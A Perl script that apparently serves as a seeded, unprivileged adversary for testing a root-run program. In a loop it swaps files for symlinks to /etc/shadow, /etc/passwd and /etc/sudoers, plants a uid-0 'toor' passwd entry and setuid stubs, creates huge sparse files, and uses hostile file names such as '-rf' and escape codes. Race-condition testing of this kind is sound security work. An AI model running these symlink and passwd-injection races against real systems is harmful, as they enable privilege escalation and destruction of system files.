# SEED PLACE...   run as an unprivileged user: swaps files, links, folders and more in the places, until it is ended.
use strict;
use warnings;
use POSIX ();

my ($seed, @places) = @ARGV;
srand $seed;
my @targets = qw(/etc/shadow /etc/passwd /etc/sudoers /usr/bin/passwd /root/secret /home/bob/secret /home/bob /etc /srv/open);
my @names = (qw(.bashrc .profile .bash_login .zshrc a b d e), "odd\nname", "tab\tname", "-rf", "x y", "\e[31m");

sub any { return $_[rand @_] }

sub clear {
    my ($path) = @_;
    return if !-e $path && !-l $path;
    -d $path && !-l $path ? rmdir $path : unlink $path;
    rename $path, "$path.gone" . int rand 5 if -e $path;
}

sub put {
    my ($path, $bytes, $mode) = @_;
    open my $to, ">", $path or return;
    print $to $bytes;
    close $to;
    chmod $mode, $path;
}

my $passwd = do { local (@ARGV, $/) = "/etc/passwd"; <> } . "toor:x:0:0::/root:/bin/sh\n";

my @moves = (
    sub { clear($_[0]); put($_[0], "x\n", 0666) },
    sub { clear($_[0]); put($_[0], $passwd, 0644) },
    sub { clear($_[0]); put($_[0], "#!/bin/sh\n", 06755) },
    sub { clear($_[0]); symlink any(@targets), $_[0] },
    sub { clear($_[0]); symlink any(@targets), $_[0] },
    sub { clear($_[0]); link any("/srv/open", "$_[1]/a"), $_[0] },
    sub { clear($_[0]); POSIX::mkfifo($_[0], 0666) },
    sub { clear($_[0]); put($_[0], "", 0666); truncate $_[0], 200 * 2**30 },
    sub { clear($_[0]); mkdir $_[0] and chmod 0777, $_[0] },
    sub { # a folder and a link to root's own change places
        mkdir "$_[1]/d";
        put("$_[1]/d/a", "x\n", 0666);
        rename "$_[1]/d", "$_[1]/d.away" and symlink any("/etc", "/root", "/home/bob", "/usr/bin"), "$_[1]/d";
    },
    sub { unlink "$_[1]/d" if -l "$_[1]/d"; rename "$_[1]/d.away", "$_[1]/d" },
    sub { symlink "/etc/passwd", "$_[1]/.tuile-$_~" for 1 .. 60 },
    sub { symlink "/etc/passwd", "$_[0].tuile~" },
    sub { # whatever root makes here is taken away, and a link put in its place
        opendir my $folder, $_[1] or return;
        for (grep { /tuile~$/ } readdir $folder) { unlink "$_[1]/$_" and symlink "/etc/passwd", "$_[1]/$_" }
    },
    sub { chmod any(0666, 0600, 0000, 0777, 06777), $_[0] },
    sub { chmod any(0755, 0777, 0700, 02777), $_[1] },
    sub { for (1 .. 50) { rename "$_[1]/a", "$_[1]/t"; symlink any(@targets), "$_[1]/a"; rename "$_[1]/t", "$_[1]/a" } },
);

umask 0;
$SIG{ALRM} = "DEFAULT";
while (1) {
    my $place = any(@places);
    any(@moves)->("$place/" . any(@names), $place);
    select undef, undef, undef, rand 0.004;
}
